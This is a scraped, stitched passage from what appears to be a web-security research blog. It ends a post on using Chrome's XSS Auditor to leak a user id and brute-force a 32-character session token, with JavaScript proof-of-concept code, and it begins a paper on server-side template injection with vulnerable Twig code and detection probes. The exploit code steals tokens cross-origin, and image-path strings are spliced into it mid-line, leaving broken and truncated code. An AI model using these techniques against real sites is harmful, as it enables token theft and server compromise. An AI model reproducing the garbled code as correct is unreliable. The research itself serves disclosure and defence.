   p.innerText = 'Bruteforcing...'+this.title;iframe.src = url.replace(/%s/,iframe.title);
The code creates one iframe (you could create multiple iframes but in this instance 1 iframe was faster), uses the onload handler and checks the contentWindow.length if it's found it returns the user id otherwise it tries the next value by setting the iframe location.

Using windows

If a website has x-frame-options or a CSP policy that prevents the site from being framed it's still possible to detect XSS auditor using new windows. Unfortunately we can't use the onload event handler for new windows as this isn't allowed cross domain forsecurity reasons however we can get round this using timeouts/intervals to wait for the page to load.  The code looks like this:
function poc(id) {
 if(! {
  win ='http://somedomain/chrome_xss_filter_bruteforce/test.php?x=<script>%0auid = '+id+';%0a<\/script>&'+(+new Date),'');
 } else {
  win.location = 'http://somedomain/chrome_xss_filter_bruteforce/test.php?x=<script>%0auid = '+id+';%0a<\/script>&'+(+new Date);
  try {
  } catch(e) {
   if(win && !win.length) {
   } else {
<a href="#" onclick="poc(1)">PoC</a>
The first line checks if we already have a window, if not it creates a new window and stores a reference to it in a global variable. Then we use an interval with 20 milliseconds to repeatedly check if the XSS detection happened and if not it will call the function again.

Stealing tokens

So far the techniques presented are coolbut a bit lame since they are quite restrictive in the data they can retrieve and require the script blocks to be formed in a certain way. Eduardo Vela suggested that I use form action and a existing parameter to pad the filter. I created a PoC that successfully extracts a 32 char hash from a form action!

The page requires an iframe, block mode and a filtered parameter that appears before the token you want to extract. It looks like this:
header("X-XSS-Protection: 1;mode=block");
if(!isset($_SESSION['token'])) {
 $token = md5(time());$_SESSION['token'] = $token;
} else {
 $token = $_SESSION['token'];

<form action="testurl.php?x=<?php echo htmlentities($_GET['x'])?>&token=<?php echo $token?>"></form>

<?php echo $token?>
The "x" parameter is used to pad the XSS filter to be within the max match length minus 1 so that we can detect part of the token. As each part of the token is detected we reduce the padding accordingly and scan for the next character but there is a complication, zeros are ignored by XSS Auditor this means our string wouldn't be matched and we can't detect zeros because they are ignored. The way round this was to inject every character except zero and if the character isn't being detected once it's gone through the entire hex character set then the character must be zero. This works perfectly well except if there are two zeros adjacent, in this instance I check if there are more than two rounds of checks then there must be two zeros! I remove two characters of the detected token and push in two zeros.

Here is the PoC code:
<div id="x"></div>
function poc(){
 var iframe = document.createElement('iframe'),
  padding = '1234567891234567891234567891234567891234567891234567891234567891234567'.split(''),
  token = "a".split(''),
  tokenLen = 32, its = 0,
  url = 'http://somedomain/chrome_xss_filter_bruteforce/form.php?x=%s&fakeparam=%3Cform%20action=%22testurl.php?x=%s2&token=%s3', last, repeated = 0;
 iframe.src =url.replace(/%s/,padding.join('')).replace(/%s2/,padding.join('')).replace(/%s/,token.join(''));
 iframe.width = 700;
 iframe.height = 500;
 iframe.onload = function() {
  if(token.length === tokenLen+1) {
   alert('The token is:'+token.slice(0,-1).join(''));
   document.getElementById('x').innerText = document.getElementById('x').innerText.slice(0,-1);
   return false;
  if(this.contentWindow.length) {
   if(its > 20) {
    token[token.length-1] = '0';
    its = 0;
   if(repeated > 2) {
    repeated = 0;
    its = 0;
    token[token.length-1] = '0';
   this.contentWindow.location = url.replace(/%s/,padding.join('')).replace(/%s2/,padding.join('')).replace(/%s/,token.join(''));
  } else {
   repeated = 0;
   its = 0;
   this.contentWindow.location = url.replace(/%s/,padding.join('')).replace(/%s2/,padding.join('')).replace(/%s/,token.join(''));
  document.getElementById('x').innerText = 'Token:'+token.join('');
 function getNextChar() {
  chr = token[token.length-1];
  if(chr === 'f' && last === 'f') {
   token[token.length-1] = '1';
   last = '1';
   return false;
  }  else if(chr === '9' && last === '9') {
   token[token.length-1] = 'a';last = 'a';
   return false;
  if(chr >= 'a' && chr < 'f') {
   token[token.length-1] = String.fromCharCode(chr.charCodeAt()+1);
  } else if(chr === 'f') {
   token[token.length-1] = 'f';
  }  else if(chr >= '0' && chr < '9') {
   token[token.length-1] = String.fromCharCode(chr.charCodeAt()+1);
  }  else if(chr === '9') {
   token[token.length-1] = '9';
  last = chr;
First the padding is injected into the real parameter, then also into our fake parameter along with the form action url. The token can now be checked one character at a time. "its" contains the current iterations if it's above 20 then no character is being detected so it means it must be a zero. If this process is repeated more than twice we have two zeros.

The final PoC is available here. It has been patched in the latest version of Chrome and the PoC no longer works. However here is a video demonstrating the flaw:

Wednesday, August 5, 2015

Server-Side Template Injection

Template engines are widely used by web applications to present dynamic data via web pages and emails. Unsafely embedding user input in templates enables Server-Side Template Injection, a frequently critical vulnerability that is extremely easy to mistake for Cross-Site Scripting (XSS), or miss entirely. Unlike XSS, Template Injection can be used to directly attack web servers' internals and often obtain Remote Code Execution (RCE), turning every vulnerable application into a potential pivot point.

Template Injection can arise both through developer error, and through the intentional exposure of templates in an attempt to offer rich functionality, as commonly done by wikis, blogs, marketing applications and content management systems. Intentional template injection issuch a common use-case that many template engines offer a 'sandboxed' mode for this express purpose. This paper defines a methodology for detecting and exploiting template injection, and shows it being applied to craft RCE zerodays for two widely deployed enterprise web applications. Generic exploits are demonstrated for five of the most popular template engines, including escapes from sandboxes whose entire purpose is to handle user-supplied templates in a safe way.

For a slightly less dry account of this research, you may prefer to watch my Black Hat USA presentation on this topic. This research is also available as printable whitepaper.



Web applications frequently use template systems such as Twig and FreeMarker to embed dynamic content in web pages and emails. Template Injection occurs when user input is embedded in a template in an unsafe manner. Consider a marketing application that sends bulk emails, and uses a Twig template to greet recepients by name. If the name is merely passed in to the template, as in the following example, everything works fine:
$output = $twig->render("Dear {first_name},",array("first_name" => $user.first_name) );
However, if users are allowed to customize these emails, problems arise:
$output = $twig->render($_GET['custom_email'], array("first_name" => $user.first_name) );
In this example the user controls the content of the template itself via the custom_email GET parameter, rather than a value passed into it. This results in an XSS vulnerability that is hard to miss. However, the XSS is just a symptom of a subtler, more serious vulnerability. This code actually exposes an expansive but easily overlooked attack surface. The output from the following two greeting messages hints at a server-side vulnerability:


Object of class__TwigTemplate_7ae62e582f8a35e5ea6cc639800ecf15b96c0d6f78db3538221c1145580ca4a5 could not be converted to string
What we have here is essentially server-side code execution inside a sandbox. Depending on the template engine used, it may be possible to escape the sandbox and execute arbitrary code.

This vulnerability typically arises through developers intentionally letting users submitor edit templates - some template engines offer a secure mode for this express purpose. It is far from specific to marketing applications - any features that support advanced user-supplied markup may be vulnerable, including wiki-pages,reviews, and even comments. Template injection can also arise by accident, when user input is simply concatenated directly into a template. This may seem slightly counter-intuitive, but it is equivalent to SQL Injection vulnerabilities occurring in poorly written prepared statements, which are a relatively common occurrence. Furthermore, unintentional template injection is extremely easy to miss as there typically won't be any visible cues. As with all input based vulnerabilities, the input could originate from out of band sources. For example, it may occur as a Local File Include (LFI) variant, exploitable through classic LFI techniques such as code embedded in log files, session files, or /proc/self/env.

The 'Server-Side' qualifier is used to distinguish this from vulnerabilities in client-side templating libraries such as those provided by jQuery and KnockoutJS. Client-side template injection can often be abused for XSS attacks, as detailed by Mario Heiderich. This paper will exclusively cover attacking server-side templating, with the goal of obtaining arbitrary code execution.

Template Injection Methodology

I have defined the following high level methodology to capture an efficient attack process, based on my experience auditing a range of vulnerable applications and template engines:


This vulnerability can appear in two distinct contexts, each of which requires its own detection method:

1. Plaintext context

Most template languages support a freeform 'text' context where you can directly input HTML. It will typically appear in one of the following ways:
smarty=Hello {}
Hello user1
freemarker=Hello ${username}
Hello newuser
This frequentlyresults in XSS, so the presence of XSS can be used as a cue for more thorough template injection probes. Template languages use syntax chosen explicitly not to clash with characters used in normal HTML, so it's easy for a manual blackbox security assessment to miss template injection entirely. To detect it, we need to invoke the template engine by embedding a statement. There are a huge number of template languages but many of them share basic syntax characteristics. We can take advantage of this by sending generic, template-agnostic payloads using basic operations to detect multiple template engines with a single HTTP request:smarty=Hello ${7*7}
Hello 49

freemarker=Hello ${7*7}
Hello 49

2. Code context

User input may also be placed within a template statement, typically as a variable name:
Hello user01
This variant is even easier to miss during an assessment, as it doesn't result in obvious XSS and is almost indistinguishable from a simple hashmap lookup. Changing the value from username will typically either result in a blank result or the application erroring out. It can be detected in a robust manner by verifying the parameter doesn't have direct XSS, then breaking out of the template statement and injecting HTML tag after it:

Hello user01 <tag>


After detecting template injection, the next step is to identify the template engine in use. This step is sometimes as trivial as submitting invalid syntax, as template engines may identify themselves in the resulting error messages. However, thistechnique fails when error messages are supressed, and isn't well suited for automation. We have instead automated this in Burp Suite using a decision tree of language-specific payloads. Green and red arrows represent 'success' and 'failure' responses respectively. In some cases, a single payload can have multiple distinct success responses - for example, the probe {{7*'7'}} would result in 49 in Twig, 7777777 in Jinja2, and neither if no template language is in use.



The first step after finding template injection and identifying the template engine is to read the documentation. The importance of this step should not be underestimated; one of the zeroday exploits to follow was derived purely from studious documentation perusal. Key areas of interest are:
  • 'For Template Authors' sections covering basic syntax.
